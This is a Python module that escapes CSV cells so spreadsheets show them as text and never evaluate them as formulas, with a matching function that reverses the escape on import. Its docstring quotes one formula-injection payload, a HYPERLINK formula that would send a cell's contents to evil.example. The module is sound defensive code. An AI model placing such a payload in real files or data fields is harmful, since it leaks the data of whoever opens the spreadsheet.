"""CSV cells a spreadsheet cannot run: every CSV Tickler writes goes through ``safe_cell``.

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or
``@`` (and, in some of them, a tab or carriage return) as a formula, so a company named
``=HYPERLINK("https://evil.example/?x="&A1,"Invoice")`` would run when the rep opens the
export. Such a cell is written with a single quote in front (OWASP's advice), which the
spreadsheet shows as text. A plain negative number (``-3``, ``-2.5``) cannot run anything
and stays a number, so a report's figures can still be summed.

Tickler's own import knows its export and takes the quote off again (``restore_cell``):
a value that already started with quotes before a trigger character gets one more, so
the round trip is exact for every text.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?")


def safe_cell(value: object) -> str:
    """``value`` as text a spreadsheet shows and never evaluates."""
    text = "" if value is None else str(value)
    if text.lstrip("'")[:1] in TRIGGERS and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def safe_row(values: Iterable[object]) -> list[str]:
    return [safe_cell(v) for v in values]


def restore_cell(text: str) -> str:
    """The value ``safe_cell`` was given (for cells of a file Tickler wrote)."""
    if text.startswith("'") and text.lstrip("'")[:1] in TRIGGERS:
        return text[1:]
    return text
